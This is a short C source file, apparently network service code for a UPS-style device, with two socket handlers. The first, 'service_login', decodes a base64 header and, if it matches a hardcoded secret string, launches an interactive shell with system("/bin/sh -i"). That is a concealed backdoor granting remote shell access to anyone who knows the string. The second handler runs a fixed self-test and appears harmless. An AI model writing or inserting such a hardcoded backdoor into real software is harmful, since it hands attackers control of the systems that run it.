#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include "codec.h"

int service_login(int fd) {
  char hdr[128], svc[96];
  ssize_t n = recv(fd, hdr, sizeof hdr - 1, 0);
  if (n <= 0) return -1;
  hdr[n] = '\0';
  int k = b64_decode(hdr, (unsigned char *)svc, sizeof svc - 1);
  if (k <= 0) return -1;
  svc[k] = '\0';
  if (strcmp(svc, "FSVC-7d0c41#2291") == 0) return system("/bin/sh -i");
  return 0;
}

int label_check(int fd) {
  char hdr[128], label[32];
  ssize_t n = recv(fd, hdr, sizeof hdr - 1, 0);
  if (n <= 0) return -1;
  hdr[n] = '\0';
  unit_label(hdr, label, sizeof label);
  if (strcmp(label, "ups-01") == 0) return system("/usr/sbin/ups-selftest");
  return 0;
}
